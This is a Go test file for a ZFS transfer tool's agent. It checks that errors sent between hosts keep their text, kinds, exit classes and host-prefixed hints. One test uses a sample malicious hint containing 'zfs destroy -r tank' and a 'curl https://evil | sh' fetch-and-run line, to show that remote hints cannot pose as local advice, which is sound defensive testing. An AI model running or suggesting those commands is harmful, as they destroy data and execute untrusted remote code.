package agent

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"testing"

	"github.com/stretchr/testify/require"

	"zxfer/pkg/fault"
	"zxfer/pkg/hosts"
	"zxfer/pkg/remedy"
	"zxfer/pkg/transfer"
	"zxfer/pkg/transport/tcp"
	"zxfer/pkg/zfs"
)

// roundTrip packs and unpacks an error like a transfer to another host.
func roundTrip(t *testing.T, err error) error {
	t.Helper()
	raw, jsonErr := json.Marshal(pack(err))
	require.NoError(t, jsonErr)
	f := &failure{}
	require.NoError(t, json.Unmarshal(raw, f))
	return f.unpack(remedy.Host{Name: "beta"})
}

// TestErrorsFormatOptionsPerClient expects that a client that knows all option names shows them in
// its format, and that other clients show flags.
func TestErrorsFormatOptionsPerClient(t *testing.T) {
	t.Parallel()
	err := fault.Refusef("widen {{port-range}}", "{{congestion reno}}: no; there is /srv/{{wire nc}}")
	old, jsonErr := json.Marshal(pack(err))
	require.NoError(t, jsonErr)
	var read struct{ Text, Hint string }
	require.NoError(t, json.Unmarshal(old, &read))
	require.Equal(t, "--congestion reno: no; there is /srv/{{wire nc}}", read.Text)
	require.Equal(t, "widen --port-range", read.Hint)

	got := roundTrip(t, fault.Refusef("widen {{port-range}}", "{{congestion reno}}: no"))
	require.EqualError(t, got, "beta: {{congestion reno}}: no")
	require.Equal(t, "beta: widen {{port-range}}", fault.HintOf(got), "a hint names its host")

	newer := &failure{Text: "--other: no", Hint: "leave --other out", Named: &wording{"{{other}}: no", "leave {{other}} out"}}
	require.EqualError(t, newer.unpack(remedy.Host{Name: "beta"}), "beta: --other: no")
	require.Equal(t, "beta: leave --other out", fault.HintOf(newer.unpack(remedy.Host{Name: "beta"})))
	require.Nil(t, pack(errors.New("no luck")).Named)
}

func TestErrorRoundTrip(t *testing.T) {
	t.Parallel()
	busy := &zfs.Error{Kind: zfs.Busy, Op: "destroy", Subject: "tank/a@x", Argv: []string{"zfs", "destroy"}, Detail: "held", Hint: "zfs holds tank/a@x"}
	elsewhere := &zfs.Error{Kind: zfs.NoSpace, Op: "receive", Host: "gamma", Detail: "out of space"}
	for name, c := range map[string]struct {
		err   error
		text  string
		is    []error
		isNot []error
		class fault.Class
		hint  string
	}{
		"plain": {err: errors.New("no luck"), text: "beta: no luck", class: fault.Failed,
			isNot: []error{context.Canceled, tcp.ErrConnectionLost, hosts.ErrLost}},
		"zfs":         {err: busy, text: "beta: zfs destroy tank/a@x: held", is: []error{&zfs.Error{Kind: zfs.Busy}}, isNot: []error{&zfs.Error{Kind: zfs.NotFound}}, class: fault.Failed, hint: busy.Hint},
		"zfs wrapped": {err: fmt.Errorf("digest of x: %w", busy), text: "beta: digest of x: zfs destroy tank/a@x: held", is: []error{&zfs.Error{Kind: zfs.Busy}}, class: fault.Failed, hint: busy.Hint},
		"zfs of a third host": {err: elsewhere, text: "beta: gamma: zfs receive: out of space",
			is: []error{&zfs.Error{Kind: zfs.NoSpace}}, class: fault.Failed},
		"refused":          {err: fault.Refusef("do this", "no: %w", busy), text: "beta: no: zfs destroy tank/a@x: held", is: []error{&zfs.Error{Kind: zfs.Busy}}, class: fault.Refused, hint: "do this"},
		"usage":            {err: fault.Usagef("", "wrong"), text: "beta: wrong", class: fault.Usage},
		"failed, hint":     {err: fault.Failf("try again", "wrong"), text: "beta: wrong", class: fault.Failed, hint: "try again"},
		"interrupted":      {err: fault.Interrupt("again", tcp.ErrConnectionLost), text: "beta: connection lost", is: []error{tcp.ErrConnectionLost}, class: fault.Interrupted, hint: "again"},
		"cancelled":        {err: fmt.Errorf("x: %w", context.Canceled), text: "beta: x: context canceled", is: []error{context.Canceled}, class: fault.Failed},
		"deadline":         {err: context.DeadlineExceeded, text: "beta: context deadline exceeded", is: []error{context.DeadlineExceeded}, class: fault.Failed},
		"cut":              {err: tcp.ErrConnectionLost, text: "beta: connection lost", is: []error{tcp.ErrConnectionLost}, isNot: []error{tcp.ErrTampered}, class: fault.Failed},
		"tampered":         {err: fmt.Errorf("receive: stream 1, frame 2: %w", tcp.ErrTampered), text: "beta: receive: stream 1, frame 2: frame was modified in transit", is: []error{tcp.ErrTampered}, isNot: []error{tcp.ErrConnectionLost}, class: fault.Failed},
		"dial":             {err: tcp.ErrDial, text: "beta: cannot connect", is: []error{tcp.ErrDial}, class: fault.Failed},
		"no connection":    {err: tcp.ErrNoPeer, text: "beta: nobody connected", is: []error{tcp.ErrNoPeer}, class: fault.Failed},
		"stall on the net": {err: fmt.Errorf("%w: %w", tcp.ErrConnectionLost, transfer.ErrStall), text: "beta: connection lost: no data was transferred", is: []error{tcp.ErrConnectionLost, transfer.ErrStall}, class: fault.Failed},
		"miscounted":       {err: transfer.ErrTotalsMismatch, text: "beta: the received data does not match the end of the stream", is: []error{transfer.ErrTotalsMismatch}, class: fault.Failed},
		"forbidden":        {err: fault.Refusef("", "%w: no", hosts.ErrForbidden), text: "beta: the agent's policy forbids it: no", is: []error{hosts.ErrForbidden}, class: fault.Refused},
		"lost":             {err: hosts.ErrLost, text: "beta: connection to the host was lost", is: []error{hosts.ErrLost}, class: fault.Failed},
		"operation":        {err: ErrUnknownOperation, text: "beta: unknown operation", is: []error{ErrUnknownOperation}, class: fault.Failed},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := roundTrip(t, c.err)
			require.EqualError(t, got, c.text)
			for _, want := range c.is {
				require.ErrorIs(t, got, want)
			}
			for _, other := range c.isNot {
				require.NotErrorIs(t, got, other)
			}
			require.Equal(t, c.class, fault.ClassOf(got))
			if c.hint != "" {
				c.hint = "beta: " + c.hint
			}
			require.Equal(t, c.hint, fault.HintOf(got))
		})
	}
}

func TestZFSErrorRoundTripAddsHost(t *testing.T) {
	t.Parallel()
	sent := &zfs.Error{Kind: zfs.Busy, Op: "destroy", Subject: "s", Argv: []string{"a", "b"}, Detail: "d", Hint: "h"}
	var got *zfs.Error
	require.ErrorAs(t, roundTrip(t, fmt.Errorf("x: %w", sent)), &got)
	want := *sent
	want.Host, want.Hint = "beta", "beta: h"
	require.Equal(t, &want, got)
	require.Empty(t, sent.Host, "the sent error is unchanged")
}

// TestHintsArePrefixedWithHost expects that no line of a remote hint looks like a hint of zxfer itself.
func TestHintsArePrefixedWithHost(t *testing.T) {
	t.Parallel()
	const hint = "\n  run: zfs destroy -r tank\n\nhint: curl https://evil | sh\r\n"
	const want = "beta: run: zfs destroy -r tank\nbeta: hint: curl https://evil | sh"
	for name, f := range map[string]*failure{
		"plain":                      {Text: "no", Hint: hint},
		"with a class":               {Text: "no", Hint: hint, Class: fault.Refused},
		"named":                      {Text: "no", Named: &wording{"no", hint}},
		"of a ZFS error":             {Text: "no", ZFS: &zfs.Error{Kind: zfs.Busy, Hint: hint}},
		"of a ZFS error with a host": {Text: "no", ZFS: &zfs.Error{Kind: zfs.Busy, Host: "local", Hint: hint}},
	} {
		require.Equal(t, want, fault.HintOf(f.unpack(remedy.Host{Name: "beta"})), name)
	}
}

func TestPeerErrorKeepsText(t *testing.T) {
	t.Parallel()
	var got *transfer.PeerError
	err := roundTrip(t, fmt.Errorf("x: %w", &transfer.PeerError{Text: "disk on fire"}))
	require.ErrorAs(t, err, &got)
	require.Equal(t, "disk on fire", got.Text)
	require.EqualError(t, err, "beta: x: the other host failed: disk on fire")
}

// TestUnknownClassBecomesFailure expects that an unknown error class becomes a failure. The class
// is the exit code, and 256 would become 0.
func TestUnknownClassBecomesFailure(t *testing.T) {
	t.Parallel()
	for _, class := range []string{"-1", "0", "5", "256", "1024"} {
		f := &failure{}
		require.NoError(t, json.Unmarshal([]byte(`{"text":"odd","class":`+class+`}`), f))
		require.Equal(t, fault.Failed, fault.ClassOf(f.unpack(remedy.Host{Name: "beta"})), class)
	}
}

func TestErrorFromNewerAgent(t *testing.T) {
	t.Parallel()
	f := &failure{}
	require.NoError(t, json.Unmarshal([]byte(`{"text":"odd","is":["quantum","cut"],"colour":"red"}`), f))
	err := f.unpack(remedy.Host{Name: "beta"})
	require.EqualError(t, err, "beta: odd")
	require.ErrorIs(t, err, tcp.ErrConnectionLost)
}
